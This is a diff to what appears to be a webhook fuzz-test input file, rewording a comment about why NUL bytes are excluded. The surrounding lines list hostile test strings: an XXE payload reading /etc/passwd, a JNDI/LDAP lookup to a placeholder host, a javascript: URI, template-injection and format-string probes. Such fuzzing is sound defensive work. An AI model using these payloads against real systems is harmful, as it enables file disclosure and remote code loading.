@@ -13,8 +13,8 @@ HTML_INJECTION = (
     "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
     "&amp;&lt;&#0;", "javascript:alert(1)", "{{ 7*7 }}{% raw %}", "${jndi:ldap://x.example/a}",
 )
-# NUL is left out: the webhooks refuse it outright (400), so it would hide what the rest of
-# an example does; tests/fuzz/test_found_by_fuzzing.py sends it on purpose.
+# NUL is left out: the webhooks refuse it outright (400) outside a Body, so it would hide
+# what the rest of an example does; tests/fuzz/test_found_by_fuzzing.py sends it on purpose.
 ODD_TEXT = (
     "", " ", "\r\n\r\n", "\x1b[31m", "\u202eevil", "\u200b\ufeff",
     "👩‍👩‍👧‍👦" * 10, "e\u0301" * 50, "%s%s%n", "{0.__class__}", "-1", "1e309", "NaN",
